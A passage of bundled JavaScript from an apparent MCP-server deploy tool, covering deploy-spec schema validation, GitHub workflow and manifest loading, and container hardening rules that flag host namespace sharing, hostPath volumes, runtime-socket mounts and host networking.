                                "type": "string",
                                ...cloudGrammar('subnet')
                            }
                        },
                        "security-groups": {
                            "type": "array",
                            "minItems": 1,
                            "items": {
                                "type": "string",
                                ...cloudGrammar('securityGroup')
                            }
                        },
                        "target-group-arn": {
                            "type": "string",
                            ...cloudGrammar('awsTargetGroupArn'),
                            "description": "The load balancer target group the service registers its tasks in."
                        }
                    }
                },
                "containerapps": {
                    "type": "object",
                    "additionalProperties": false,
                    "description": "Azure Container Apps: where the app lives and the identity it reads Key Vault with.",
                    "properties": {
                        "subscription": {
                            "type": "string",
                            ...cloudGrammar('azureSubscription')
                        },
                        "resource-group": {
                            "type": "string",
                            ...cloudGrammar('azureResourceGroup')
                        },
                        "environment": {
                            "type": "string",
                            ...cloudGrammar('containerAppEnvironment'),
                            "description": "The Container Apps environment (in the same resource group)."
                        },
                        "name": {
                            "type": "string",
                            ...cloudGrammar('containerAppName'),
                            "description": "The container app (default: the server's name)."
                        },
                        "location": {
                            "type": "string",
                            ...grammar('cloudRegion')
                        },
                        "identity": {
                            "type": "string",
                            ...cloudGrammar('azureIdentity'),
                            "description": "The managed identity that reads Key Vault secrets (and pulls from an Azure Container Registry)."
                        },
                        "concurrency": {
                            "type": "integer",
                            "minimum": 1,
                            "maximum": 1000,
                            "description": "Concurrent HTTP requests per replica before scaling out (default 10)."
                        }
                    }
                }
            }
        }
    }
};

;// CONCATENATED MODULE: ./src/spec/spec.ts
/**
 * mcp-deploy.yml: parsed with positions, validated against the shipped JSON Schema (ajv), and
 * returned with defaults applied. A bad spec gets one error per problem naming the file, line and
 * column, the field, and what was expected.
 */







// Compiled on first use: the CLI's other commands do not pay for it at start.
let spec_compiled;
// verbose: errors carry the value and the schema node, for patternErrorMessage.
const validator = () => (spec_compiled ??= new ajv.Ajv({ allErrors: true, strict: false, verbose: true }).compile(deploySchema));
function describe(error) {
    const p = error.params;
    switch (error.keyword) {
        case 'additionalProperties':
            return `unknown field "${String(p.additionalProperty)}"`;
        case 'required':
            return `missing required field "${String(p.missingProperty)}"`;
        case 'enum':
            return `expected one of ${p.allowedValues.map((v) => JSON.stringify(v)).join(', ')}`;
        case 'type':
            return `expected ${String(p.type).replace(',', ' or ')}`;
        case 'pattern': {
            // Values print JSON-quoted: a line break in one shows as \n and keeps the error one line.
            const says = error.parentSchema?.patternErrorMessage;
            const what = error.propertyName !== undefined ? `the key ${JSON.stringify(error.propertyName)}` : JSON.stringify(error.data);
            return says ? `${what} is not ${says}` : `${what} does not match ${String(p.pattern)}`;
        }
        default:
            return error.message ?? error.keyword;
    }
}
/** Parses and validates spec text; `file` names it in errors. */
function parseSpec(text, file) {
    const lineCounter = new dist/* LineCounter */.HN();
    const doc = (0,dist/* parseDocument */.Tp)(text, { lineCounter, prettyErrors: false });
    const at = (offset) => {
        if (offset === undefined)
            return file;
        const { line, col } = lineCounter.linePos(offset);
        return `${file}:${line}:${col}`;
    };
    if (doc.errors.length) {
        throw new util_errors/* InputError */.dz(doc.errors.map((e) => `${at(e.pos[0])}: invalid YAML: ${e.message.split('\n')[0]}`).join('\n'));
    }
    const data = doc.toJS();
    if (!data || typeof data !== 'object' || Array.isArray(data))
        throw new util_errors/* InputError */.dz(`${file}: expected a mapping with at least "server"`);
    const validate = validator();
    if (!validate(data)) {
        // oneOf adds a summary error on top of its branches' ones; keep the most specific.
        // propertyNames repeats its pattern error as a summary; keep the pattern one (it names the key).
        const errors = (validate.errors ?? []).filter((e) => (e.keyword !== 'oneOf' || (validate.errors ?? []).length === 1) && e.keyword !== 'propertyNames');
        const seen = new Set();
        const lines = errors
            .map((e) => {
            const path = e.instancePath.split('/').slice(1).map((s) => s.replace(/~1/g, '/').replace(/~0/g, '~'));
            const key = e.keyword === 'additionalProperties' ? String(e.params.additionalProperty) : e.propertyName;
            const field = key !== undefined ? [...path, key] : path;
            const node = doc.getIn(field, true) ?? doc.getIn(path, true);
            const range = (0,dist/* isNode */.Ll)(node) ? node.range?.[0] : undefined;
            const keyNode = key !== undefined ? findKey(doc, path, key) : undefined;
            return `${at(keyNode ?? range)}: ${path.join('.') || '(top level)'}: ${describe(e)}`;
        })
            .filter((l) => !seen.has(l) && seen.add(l));
        throw new util_errors/* InputError */.dz(`${file} is not a valid deploy spec:\n  ${lines.join('\n  ')}`);
    }
    const where = (path) => {
        const node = doc.getIn(path, true);
        return at((path.length ? findKey(doc, path.slice(0, -1), path.at(-1)) : undefined) ?? ((0,dist/* isNode */.Ll)(node) ? node.range?.[0] : undefined));
    };
    const spec = withDefaults(data, file);
    const raw = data;
    spec.auth = readAuth(raw.auth, file, where);
    const credentials = readGateCredentials(raw.health?.auth, spec.auth, file, where);
    if (Object.keys(credentials).length)
        spec.health.auth = credentials;
    return spec;
}
function findKey(doc, path, key) {
    const parent = path.length ? doc.getIn(path, true) : doc.contents;
    const items = parent?.items ?? [];
    return items.find((i) => i.key?.value === key)?.key?.range?.[0];
}
const asStrings = (o) => Object.fromEntries(Object.entries(o ?? {}).map(([k, v]) => [k, String(v)]));
function withDefaults(raw, file) {
    const server = raw.server;
    const build = (raw.build ?? {});
    const health = (raw.health ?? {});
    const command = server.command;
    return {
        dir: (0,external_node_path_.dirname)((0,external_node_path_.resolve)(file)),
        file,
        server: {
            name: server.name,
            transport: server.transport ?? 'streamable-http',
            port: server.port ?? 8080,
            path: server.path ?? '/mcp',
            command: typeof command === 'string' ? command.split(/\s+/).filter(Boolean) : command,
        },
        build: {
            context: build.context ?? '.',
            dockerfile: build.dockerfile,
            base: build.base,
            install: build.install ?? 'image',
            args: asStrings(build.args),
            secrets: build.secrets ?? [],
        },
        image: raw.image,
        env: asStrings(raw.env),
        secrets: raw.secrets ?? [],
        resources: raw.resources,
        scaling: raw.scaling,
        health: {
            expectTools: health['expect-tools'],
            contract: health.contract,
            strict: health.strict,
            smoke: health.smoke,
            timeout: health.timeout,
            allowAuthRequired: health['allow-auth-required'],
            path: health.path,
        },
        ingress: raw.ingress,
        targets: raw.targets ?? {},
    };
}
function loadSpec(path) {
    let text;
    try {
        text = (0,external_node_fs_.readFileSync)(path, 'utf8');
    }
    catch (error) {
        throw new util_errors/* InputError */.dz(`--spec ${path}: ${error.code === 'ENOENT' ? 'no such file (write an mcp-deploy.yml; see the README)' : error.message}`);
    }
    return parseSpec(text, path);
}

// EXTERNAL MODULE: ./node_modules/@actions/workflow-parser/dist/index.js + 68 modules
var workflow_parser_dist = __webpack_require__(34723);
// EXTERNAL MODULE: ./src/checklist/yaml-documents.ts
var yaml_documents = __webpack_require__(14862);
;// CONCATENATED MODULE: ./src/checklist/load-workflows.ts
/**
 * GitHub workflow files as located documents for the WF rules: parsed as YAML 1.2 (as the runner
 * reads them) and validated with GitHub's own `@actions/workflow-parser`, so a rule never reasons
 * about a file GitHub would refuse to run.
 */





const MAX_LISTED_ERRORS = 5;
/**
 * The workflow files at `path`: the file itself, or every `.yml`/`.yaml` directly in the folder
 * (GitHub reads no subfolders of `.github/workflows`), sorted by name. An invalid workflow is an
 * InputError naming each problem as `file:line:column`.
 */
function loadWorkflows(path) {
    return workflowFiles(path).map(loadWorkflowFile);
}
function workflowFiles(path) {
    let isDirectory;
    try {
        isDirectory = (0,external_node_fs_.statSync)(path).isDirectory();
    }
    catch {
        throw new util_errors/* InputError */.dz(`workflows: ${path} does not exist (give a workflow file or a folder such as .github/workflows)`);
    }
    if (!isDirectory)
        return [path];
    return (0,external_node_fs_.readdirSync)(path, { withFileTypes: true })
        .filter((entry) => entry.isFile() && /\.ya?ml$/.test(entry.name))
        .map((entry) => entry.name)
        .sort()
        .map((name) => (0,external_node_path_.join)(path, name));
}
function loadWorkflowFile(file) {
    const text = (0,external_node_fs_.readFileSync)(file, 'utf8');
    const documents = (0,yaml_documents/* parseYamlDocuments */.v)(text, file, '1.2');
    if (documents.length !== 1 || typeof documents[0].value !== 'object' || Array.isArray(documents[0].value)) {
        throw new util_errors/* InputError */.dz(`${file}:1: a workflow file holds exactly one YAML mapping (with on: and jobs:)`);
    }
    const problems = validateWorkflow(file, text);
    if (problems.length > 0) {
        const listed = problems.slice(0, MAX_LISTED_ERRORS).join('; ');
        const more = problems.length > MAX_LISTED_ERRORS ? ` (and ${problems.length - MAX_LISTED_ERRORS} more)` : '';
        throw new util_errors/* InputError */.dz(`invalid workflow (GitHub would not run it): ${listed}${more}`);
    }
    return documents[0];
}
/**
 * GitHub's own checks: the workflow schema (parse) and the semantic checks of conversion (needs,
 * job ids, cron, concurrency). Conversion is declared async only for fetching reusable workflows,
 * which is off here (no file provider), so it records its errors before returning; a unit test
 * pins that, and would fail if a new version deferred them.
 */
function validateWorkflow(file, text) {
    const parsed = (0,workflow_parser_dist/* parseWorkflow */.hM)({ name: file, content: text }, new workflow_parser_dist/* NoOperationTraceWriter */.P0());
    if (parsed.value && parsed.context.errors.count === 0) {
        (0,workflow_parser_dist/* convertWorkflowTemplate */.DE)(parsed.context, parsed.value).catch(() => undefined);
    }
    return parsed.context.errors.getErrors().map((error) => {
        const where = error.range ? `${file}:${error.range.start.line}:${error.range.start.column}` : file;
        return `${where}: ${error.rawMessage}`;
    });
}

;// CONCATENATED MODULE: ./src/checklist/inputs.ts
/**
 * The checklist's loader: from the options the CLI or the action parsed, reads and parses every
 * input the rules use (spec, Dockerfile and .dockerignore, image config, compose files, manifests
 * or the spec's Kubernetes render, workflows, scan and health reports). Every missing file is named
 * in one InputError. Locations use paths relative to the workspace, as code scanning wants them.
 */







const MANIFEST_FILE = /\.(ya?ml|json)$/i;
const inputs_DIGEST = /^sha256:[0-9a-f]{64}$/;
class Reader {
    workspace;
    missing = [];
    constructor(workspace) {
        this.workspace = workspace;
    }
    path(p) {
        return (0,external_node_path_.resolve)(this.workspace, p);
    }
    /** The name locations use: relative to the workspace when inside it. */
    display(absolute) {
        const rel = (0,external_node_path_.relative)(this.workspace, absolute);
        return rel && !rel.startsWith('..') && !(0,external_node_path_.isAbsolute)(rel) ? rel : absolute;
    }
    /** The file's text, or undefined (and noted as missing, named as the user wrote it). */
    text(p, what) {
        try {
            return (0,external_node_fs_.readFileSync)(this.path(p), 'utf8');
        }
        catch (error) {
            const code = error.code;
            this.missing.push(`${what} ${p}${code === 'ENOENT' ? '' : ` (${code ?? error.message})`}`);
            return undefined;
        }
    }
    exists(p, what) {
        if ((0,external_node_fs_.existsSync)(this.path(p)))
            return true;
        this.missing.push(`${what} ${p}`);
        return false;
    }
}
function yamlFilesUnder(dir) {
    return (0,external_node_fs_.readdirSync)(dir, { withFileTypes: true })
        .sort((a, b) => a.name.localeCompare(b.name))
        .flatMap((entry) => {
        const full = (0,external_node_path_.join)(dir, entry.name);
        if (entry.isDirectory())
            return entry.name.startsWith('.') ? [] : yamlFilesUnder(full);
        return entry.isFile() && MANIFEST_FILE.test(entry.name) ? [full] : [];
    });
}
function readManifests(reader, paths) {
    const docs = [];
    for (const p of paths) {
        if (!reader.exists(p, '--manifests'))
            continue;
        const absolute = reader.path(p);
        const files = (0,external_node_fs_.statSync)(absolute).isDirectory() ? yamlFilesUnder(absolute) : [absolute];
        if (!files.length)
            throw new util_errors/* InputError */.dz(`--manifests ${p}: holds no .yaml, .yml or .json file`);
        for (const file of files)
            docs.push(...(0,yaml_documents/* parseYamlDocuments */.v)((0,external_node_fs_.readFileSync)(file, 'utf8'), reader.display(file)).filter((d) => d.value && typeof d.value === 'object'));
    }
    return docs;
}
/** The .dockerignore Docker reads for this build: `<Dockerfile>.dockerignore` beside it, else the context's. */
function dockerignoreFor(reader, dockerfile, context) {
    const beside = `${dockerfile}.dockerignore`;
    const path = (0,external_node_fs_.existsSync)(beside) ? beside : (0,external_node_path_.join)(context, '.dockerignore');
    const file = reader.display(path);
    return (0,external_node_fs_.existsSync)(path) ? { file, text: (0,external_node_fs_.readFileSync)(path, 'utf8') } : { file, text: '', missing: true };
}
async function renderManifests(spec, pushedDigest, file) {
    if (!spec.image)
        throw new util_errors/* InputError */.dz(`--render kubernetes: ${file} has no image (the repository the server is pushed to)`);
    if (!pushedDigest)
        throw new util_errors/* InputError */.dz('--render kubernetes: the pushed digest is needed to render what deploy applies (--pushed-digest sha256:..., or --image docker://REF@sha256:...)');
    const { renderKubernetes } = await Promise.all(/* import() */[__webpack_require__.e(780), __webpack_require__.e(21)]).then(__webpack_require__.bind(__webpack_require__, 72021));
    const { manifestPaths, readManifestFiles } = await __webpack_require__.e(/* import() */ 685).then(__webpack_require__.bind(__webpack_require__, 9685));
    const paths = manifestPaths(spec);
    const result = renderKubernetes(spec, { image: `${spec.image}@${pushedDigest}`, manifests: paths && readManifestFiles(spec, paths) });
    return result.documents.flatMap((d) => (0,yaml_documents/* parseYamlDocuments */.v)(d.text, `render/kubernetes/${d.name}`));
}
async function readImage(source, options) {
    const image = await (0,reader/* openImage */.U)(source, options);
    try {
        return { source: image.source.display, digest: image.digest, configDigest: image.configDigest, config: image.config };
    }
    finally {
        await image.close();
    }
}
function readJson(reader, p, what) {
    const text = reader.text(p, what);
    if (text === undefined)
        return undefined;
    let value;
    try {
        value = JSON.parse(text);
    }
    catch (error) {
        throw new util_errors/* InputError */.dz(`${what} ${p}: not valid JSON (${error.message})`);
    }
    if (!value || typeof value !== 'object' || Array.isArray(value))
        throw new util_errors/* InputError */.dz(`${what} ${p}: expected a JSON object`);
    return { file: reader.display(reader.path(p)), value: value };
}
function specFile(sources, reader) {
    if (sources.spec)
        return reader.exists(sources.spec, '--spec') ? sources.spec : undefined;
    return sources.specOptional && (0,external_node_fs_.existsSync)(reader.path('mcp-deploy.yml')) ? 'mcp-deploy.yml' : undefined;
}
/** Reads every input named in `sources`; throws one InputError naming every file that is not there. */
async function loadChecklistInputs(sources) {
    const reader = new Reader((0,external_node_path_.resolve)(sources.workspace));
    if (sources.pushedDigest !== undefined && !inputs_DIGEST.test(sources.pushedDigest))
        throw new util_errors/* InputError */.dz(`--pushed-digest "${sources.pushedDigest}" is not a sha256:<64 hex> digest`);
    const inputs = { sources: {} };
    const specPath = specFile(sources, reader);
    if (specPath)
        inputs.spec = { file: reader.display(reader.path(specPath)), value: loadSpec(reader.path(specPath)) };
    const spec = inputs.spec?.value;
    const context = spec ? (0,external_node_path_.resolve)(spec.dir, spec.build.context) : undefined;
    const dockerfilePath = sources.dockerfile ? reader.path(sources.dockerfile) : context ? (0,external_node_path_.resolve)(context, spec.build.dockerfile ?? 'Dockerfile') : undefined;
    if (dockerfilePath && (sources.dockerfile || spec?.build.dockerfile || (0,external_node_fs_.existsSync)(dockerfilePath))) {
        const text = reader.text(sources.dockerfile ?? dockerfilePath, '--dockerfile');
        if (text !== undefined) {
            const file = reader.display(dockerfilePath);
            inputs.dockerfile = { file, text };
            inputs.sources[file] = text;
            inputs.dockerignore = dockerignoreFor(reader, dockerfilePath, context ?? (0,external_node_path_.dirname)(dockerfilePath));
        }
    }
    for (const p of sources.compose ?? []) {
        const text = reader.text(p, '--compose');
        if (text !== undefined)
            (inputs.compose ??= []).push(...(0,yaml_documents/* parseYamlDocuments */.v)(text, reader.display(reader.path(p))));
    }
    if (sources.manifests?.length)
        inputs.manifests = readManifests(reader, sources.manifests);
    if (sources.workflows && reader.exists(sources.workflows, '--workflows')) {
        inputs.workflows = loadWorkflows(reader.path(sources.workflows)).map((doc) => {
            const absolute = reader.path(doc.file);
            const file = reader.display(absolute);
            inputs.sources[file] ??= (0,external_node_fs_.readFileSync)(absolute, 'utf8');
            return file === doc.file ? doc : { ...doc, file, locate: (path) => ({ ...doc.locate(path), file }) };
        });
    }
    if (sources.scanReport)
        inputs.scanReport = readJson(reader, sources.scanReport, '--scan-report');
    if (sources.healthReport)
        inputs.healthReport = readJson(reader, sources.healthReport, '--health-report');
    if (reader.missing.length)
        throw new util_errors/* InputError */.dz(`checklist: ${reader.missing.length === 1 ? 'this input does' : 'these inputs do'} not exist: ${reader.missing.join(', ')}`);
    if (sources.image)
        inputs.image = await readImage(sources.image, sources.imageOptions);
    inputs.pushedDigest = sources.pushedDigest ?? (sources.image?.startsWith('docker://') ? inputs.image?.digest : undefined);
    if (sources.live) {
        if (!inputs.spec)
            throw new util_errors/* InputError */.dz('--live needs the spec (--spec FILE, or mcp-deploy.yml in the working directory): it names what is deployed');
        const { loadLiveInputs } = await __webpack_require__.e(/* import() */ 784).then(__webpack_require__.bind(__webpack_require__, 31784));
        const live = await loadLiveInputs(inputs.spec.value, { ...sources.live, imageOptions: sources.imageOptions, logger: sources.logger });
        // What is deployed replaces the files' manifests; a report given as a file still wins.
        inputs.manifests = live.manifests;
        inputs.scanReport ??= live.scanReport;
        inputs.healthReport ??= live.healthReport;
    }
    if (sources.render === 'kubernetes') {
        if (!inputs.spec)
            throw new util_errors/* InputError */.dz('--render kubernetes needs the spec (--spec FILE, or mcp-deploy.yml in the working directory)');
        inputs.manifests = [...(inputs.manifests ?? []), ...(await renderManifests(inputs.spec.value, inputs.pushedDigest, inputs.spec.file))];
    }
    sources.logger?.debug(`checklist inputs: ${Object.keys(inputs).filter((k) => k !== 'sources').join(', ')}`);
    return inputs;
}

// EXTERNAL MODULE: ./node_modules/dockerfile-ast/lib/main.js
var main = __webpack_require__(78390);
;// CONCATENATED MODULE: ./src/checklist/rules/pod-specs.ts
/** Where the pod spec is in each workload kind (DeploymentConfig: OpenShift's Deployment). */
const POD_SPEC_PATH = {
    Pod: ['spec'],
    Deployment: ['spec', 'template', 'spec'],
    DeploymentConfig: ['spec', 'template', 'spec'],
    StatefulSet: ['spec', 'template', 'spec'],
    DaemonSet: ['spec', 'template', 'spec'],
    ReplicaSet: ['spec', 'template', 'spec'],
    ReplicationController: ['spec', 'template', 'spec'],
    Job: ['spec', 'template', 'spec'],
    CronJob: ['spec', 'jobTemplate', 'spec', 'template', 'spec'],
};
/** Kinds that serve (probes make sense); Jobs run to completion. */
const SERVING_KINDS = new Set(['Pod', 'Deployment', 'StatefulSet', 'DaemonSet', 'ReplicaSet', 'ReplicationController']);
const isDict = (v) => v !== null && typeof v === 'object' && !Array.isArray(v);
function getIn(value, path) {
    let node = value;
    for (const key of path) {
        if (node === null || typeof node !== 'object')
            return undefined;
        node = node[key];
    }
    return node;
}
const kindOf = (doc) => (typeof doc.value.kind === 'string' ? doc.value.kind : '');
const nameOf = (doc) => {
    const name = getIn(doc.value, ['metadata', 'name']);
    return typeof name === 'string' ? name : '(unnamed)';
};
const namespaceOf = (doc) => {
    const ns = getIn(doc.value, ['metadata', 'namespace']);
    return typeof ns === 'string' ? ns : undefined;
};
const subjectOf = (doc) => `${kindOf(doc) || 'Object'}/${nameOf(doc)}`;
function stringMap(v) {
    return isDict(v) ? Object.fromEntries(Object.entries(v).map(([k, x]) => [k, String(x)])) : undefined;
}
/** Every workload (a kind with a pod spec) in the manifests, in document order. */
function workloadsOf(docs) {
    const out = [];
    for (const doc of docs ?? []) {
        const kind = kindOf(doc);
        const podPath = POD_SPEC_PATH[kind];
        const pod = podPath ? getIn(doc.value, podPath) : undefined;
        if (!podPath || !isDict(pod))
            continue;
        const templatePath = podPath.slice(0, -1);
        const meta = kind === 'Pod' ? getIn(doc.value, ['metadata']) : getIn(doc.value, [...templatePath, 'metadata']);
        const own = stringMap(getIn(doc.value, ['metadata', 'annotations']));
        const template = kind === 'Pod' ? undefined : stringMap(getIn(meta, ['annotations']));
        const annotations = own || template ? { ...template, ...own } : undefined;
        out.push({ doc, kind, subject: subjectOf(doc), podPath, pod, templatePath, labels: stringMap(getIn(meta, ['labels'])) ?? {}, annotations });
    }
    return out;
}
/** Every container (init containers first) of every workload. */
function containersOf(docs) {
    return workloadsOf(docs).flatMap((workload) => workloadContainers(workload));
}
function workloadContainers(workload) {
    const out = [];
    for (const field of ['initContainers', 'containers']) {
        const list = workload.pod[field];
        if (!Array.isArray(list))
            continue;
        list.forEach((container, i) => {
            if (!isDict(container))
                return;
            const name = typeof container.name === 'string' ? container.name : `#${i + 1}`;
            const what = field === 'initContainers' ? 'init container' : 'container';
            out.push({ workload, name, container, path: [...workload.podPath, field, i], init: field === 'initContainers', subject: `${workload.subject} ${what} ${name}` });
        });
    }
    return out;
}
/**
 * A container's security-context field as it takes effect, and where it is written: the
 * container's own, else the pod's (for the fields a pod security context has).
 */
function securityField(ref, field) {
    const own = getIn(ref.container, ['securityContext', field]);
    if (own !== undefined && own !== null)
        return { value: own, path: [...ref.path, 'securityContext', field] };
    const pod = getIn(ref.workload.pod, ['securityContext', field]);
    if (pod !== undefined && pod !== null)
        return { value: pod, path: [...ref.workload.podPath, 'securityContext', field] };
    return undefined;
}
/** Where to point when a container-level field is missing: its security context, else the container. */
function securityContextPath(ref) {
    return isDict(ref.container.securityContext) ? [...ref.path, 'securityContext'] : ref.path;
}
/** A check on a workload or one of its containers; exemptable by the object's (and pod template's) annotations. */
function workloadCheck(workload, subject, path, passed, message) {
    return { passed, message, location: workload.doc.locate(path), subject, object: workload.subject, exemption: { kind: 'annotations', annotations: workload.annotations } };
}
function containerCheck(ref, path, passed, message) {
    return workloadCheck(ref.workload, ref.subject, path, passed, message);
}
/** A check on any manifest object (a Service, an Ingress, a Namespace). */
function objectCheck(doc, path, passed, message) {
    return { passed, message, location: doc.locate(path), subject: subjectOf(doc), exemption: { kind: 'annotations', annotations: stringMap(getIn(doc.value, ['metadata', 'annotations'])) } };
}
/** The replica count a workload asks for: `replicas` as written (default 1), undefined for DaemonSets and Jobs. */
function replicasOf(workload) {
    if (!['Deployment', 'DeploymentConfig', 'StatefulSet', 'ReplicaSet', 'ReplicationController'].includes(workload.kind))
        return undefined;
    const replicas = getIn(workload.doc.value, ['spec', 'replicas']);
    return typeof replicas === 'number' ? replicas : 1;
}
/** Whether a label selector (`matchLabels`/`matchExpressions`, or a Service's plain map) selects these labels. */
function selects(selector, labels, plain = false) {
    if (!isDict(selector))
        return false;
    const matchLabels = plain ? selector : selector.matchLabels;
    const expressions = plain ? [] : Array.isArray(selector.matchExpressions) ? selector.matchExpressions : [];
    const pairs = isDict(matchLabels) ? Object.entries(matchLabels) : [];
    if (pairs.length === 0 && expressions.length === 0)
        return !plain; // an empty selector selects every pod; a Service without one selects none
    if (!pairs.every(([k, v]) => labels[k] === String(v)))
        return false;
    return expressions.every((e) => {
        if (!isDict(e) || typeof e.key !== 'string')
            return false;
        const values = Array.isArray(e.values) ? e.values.map(String) : [];
        const has = Object.prototype.hasOwnProperty.call(labels, e.key);
        switch (e.operator) {
            case 'In':
                return has && values.includes(labels[e.key]);
            case 'NotIn':
                return !has || !values.includes(labels[e.key]);
            case 'Exists':
                return has;
            case 'DoesNotExist':
                return !has;
            default:
                return false;
        }
    });
}
/** Same namespace, an unset one meaning the namespace applied to (the same for both). */
const sameNamespace = (a, b) => (namespaceOf(a) ?? '') === (namespaceOf(b) ?? '');
function docsOfKind(docs, ...kinds) {
    return (docs ?? []).filter((d) => kinds.includes(kindOf(d)));
}
function composeServices(docs) {
    return (docs ?? []).flatMap((doc) => {
        const services = doc.value.services;
        if (!isDict(services))
            return [];
        return Object.entries(services).flatMap(([name, service]) => (isDict(service) ? [{ doc, name, service, subject: `service ${name}` }] : []));
    });
}
/** A check on a compose service, located at `path` inside it; exemptable by `x-mcp-orchestrator` on the service or the file. */
function serviceCheck(s, path, passed, message) {
    return { passed, message, location: s.doc.locate(['services', s.name, ...path]), subject: s.subject, exemption: { kind: 'compose-extension', service: s.service, top: s.doc.value } };
}
/** A compose service's environment as a map (`environment:` is a list of `K=V` or a mapping). */
function composeEnvironment(service) {
    const env = service.environment;
    if (Array.isArray(env)) {
        return Object.fromEntries(env.map(String).map((e) => [e.split('=')[0], e.includes('=') ? e.slice(e.indexOf('=') + 1) : '']));
    }
    return isDict(env) ? Object.fromEntries(Object.entries(env).map(([k, v]) => [k, v === null || v === undefined ? '' : String(v)])) : {};
}
/** A boolean as Compose and Kubernetes YAML (1.1) write it. */
const isTrue = (v) => v === true || (typeof v === 'string' && ['true', 'yes', 'on', '1'].includes(v.toLowerCase()));

;// CONCATENATED MODULE: ./src/checklist/rules/host-access.ts

const hostNamespaces = {
    id: 'HRD007',
    group: 'HRD',
    item: 'hardening',
    severity: 'error',
    title: 'No pod or service shares the host\'s network, process or IPC namespace',
    help: 'hostNetwork puts the server on the node\'s interfaces (past NetworkPolicies, next to the kubelet and cloud metadata endpoints), hostPID lets it see and signal the node\'s processes, hostIPC lets it read their shared memory. ' +
        'Compose: pid: host and ipc: host; network_mode: host is HRD009.',
    fix: 'Remove hostNetwork, hostPID and hostIPC from the pod spec (compose: pid: host, ipc: host).',
    needs: [],
    needsAnyOf: ['manifests', 'compose'],
    aligned: {
        'kube-linter': ['host-network', 'host-pid', 'host-ipc'],
        polaris: ['hostNetworkSet', 'hostPIDSet', 'hostIPCSet'],
        checkov: ['CKV_K8S_19', 'CKV_K8S_17', 'CKV_K8S_18'],
        trivy: ['KSV009', 'KSV010', 'KSV008'],
    },
    check: (inputs) => [
        ...workloadsOf(inputs.manifests).map((w) => {
            const shared = ['hostNetwork', 'hostPID', 'hostIPC'].filter((f) => isTrue(w.pod[f]));
            return workloadCheck(w, w.subject, shared.length ? [...w.podPath, shared[0]] : w.podPath, shared.length === 0, shared.length ? `${w.subject} shares the host's namespaces: ${shared.map((f) => `${f}: true`).join(', ')}` : `${w.subject} keeps its own network, process and IPC namespaces`);
        }),
        ...composeServices(inputs.compose).map((s) => {
            const shared = ['pid', 'ipc'].filter((f) => s.service[f] === 'host');
            return serviceCheck(s, shared.length ? [shared[0]] : [], shared.length === 0, shared.length ? `${s.subject} shares the host's ${shared.map((f) => `${f.toUpperCase()} namespace`).join(' and ')}` : `${s.subject} keeps its own process and IPC namespaces`);
        }),
    ],
};
/** Container runtime sockets: whoever holds one starts privileged containers on the host. */
const RUNTIME_SOCKET = /(docker|containerd|crio|podman|cri-dockerd)\.sock$/;
/** Host directories that give the host away when bind-mounted (kube-linter's sensitive-host-mounts, plus the runtime's /run). */
const SENSITIVE_HOST_DIRS = new Set(['/', '/boot', '/dev', '/etc', '/lib', '/proc', '/sys', '/usr', '/var/run', '/run', '/var/lib/docker', '/var/lib/kubelet']);
/** The host side of a compose volume: `/src:/dst[:ro]` or `{type: bind, source}`; undefined for named volumes. */
function bindSource(volume) {
    if (typeof volume === 'string') {
        const source = volume.split(':')[0];
        return source.startsWith('/') || source.startsWith('.') || source.startsWith('~') ? source : undefined;
    }
    return isDict(volume) && volume.type === 'bind' && typeof volume.source === 'string' ? volume.source : undefined;
}
const hostPaths = {
    id: 'HRD008',
    group: 'HRD',
    item: 'hardening',
    severity: 'error',
    title: 'No hostPath volume, host system directory or container-runtime socket is mounted',
    help: 'A mounted docker.sock (or containerd.sock) is root on the host: the server, or whoever takes it over, can start a privileged container. Kubernetes hostPath volumes of any kind are refused, as the baseline Pod Security Standard does. ' +
        'Compose bind mounts of project files are normal; runtime sockets and host system directories (/, /etc, /proc, /sys, /var/run...) are not.',
    fix: 'Remove the hostPath volume (use a ConfigMap, Secret, emptyDir or PersistentVolumeClaim); in compose, remove the socket or system-directory bind mount.',
    needs: [],
    needsAnyOf: ['manifests', 'compose'],
    aligned: { 'kube-linter': ['docker-sock', 'sensitive-host-mounts'], polaris: ['hostPathSet'], checkov: ['CKV_K8S_27'], trivy: ['KSV023', 'KSV006'] },
    check: (inputs) => [
        ...workloadsOf(inputs.manifests).map((w) => {
            const volumes = Array.isArray(w.pod.volumes) ? w.pod.volumes : [];
            const index = volumes.findIndex((v) => isDict(v) && v.hostPath !== undefined && v.hostPath !== null);
            if (index < 0)
                return workloadCheck(w, w.subject, w.podPath, true, `${w.subject} mounts no hostPath volume`);
            const path = String(getIn(volumes[index], ['hostPath', 'path']) ?? '');
            return workloadCheck(w, w.subject, [...w.podPath, 'volumes', index, 'hostPath'], false, `${w.subject} mounts the host's ${path || '(path)'}${RUNTIME_SOCKET.test(path) ? ': the container runtime socket' : ''} (hostPath)`);
        }),
        ...composeServices(inputs.compose).map((s) => {
            const volumes = Array.isArray(s.service.volumes) ? s.service.volumes : [];
            const index = volumes.findIndex((v) => {
                const source = bindSource(v);
                return source !== undefined && (RUNTIME_SOCKET.test(source) || SENSITIVE_HOST_DIRS.has(source.replace(/\/+$/, '') || '/'));
            });
            if (index < 0)
                return serviceCheck(s, [], true, `${s.subject} mounts no runtime socket or host system directory`);
            return serviceCheck(s, ['volumes', index], false, `${s.subject} mounts the host's ${bindSource(volumes[index])}`);
        }),
    ],
};
/** Environment variables servers and bridges bind by; a loopback value keeps a host-network service off the network. */
const BIND_VARIABLES = ['HOST', 'BIND', 'BIND_HOST', 'BIND_ADDRESS', 'LISTEN_HOST', 'LISTEN_ADDRESS', 'MCP_BRIDGE_HOST', 'FASTMCP_HOST', 'UVICORN_HOST'];
const LOOPBACK_ADDRESS = /^(127(?:\.\d{1,3}){3}|::1|localhost)$/i;
const composeHostNetwork = {
    id: 'HRD009',
    group: 'HRD',
    item: 'hardening',
    severity: 'warning',
    title: 'Compose services use host networking only when bound to loopback',
    help: 'network_mode: host shares the host\'s network stack: the server can reach every service listening on the host\'s loopback, and whatever it binds on 0.0.0.0 is open on every interface with no port mapping in between. ' +
        '`mcp-orchestrator up` runs the server this way on purpose, for a local run on a developer machine, and binds it to 127.0.0.1 (HOST and MCP_BRIDGE_HOST), which makes it as reachable as a `-p 127.0.0.1:PORT` mapping. ' +
        'So a host-network service passes when its environment binds it to a loopback address (HOST, BIND_ADDRESS, MCP_BRIDGE_HOST...) and no bind variable names another address; otherwise it is a warning, not an error: the bind address is declared, not proven, and on a shared host the other loopback services stay within its reach.',
    fix: 'Use a bridge network with ports: ["127.0.0.1:PORT:PORT"], or keep network_mode: host and bind the server to 127.0.0.1 (HOST=127.0.0.1).',
    needs: ['compose'],
    aligned: {},
    check: (inputs) => composeServices(inputs.compose)
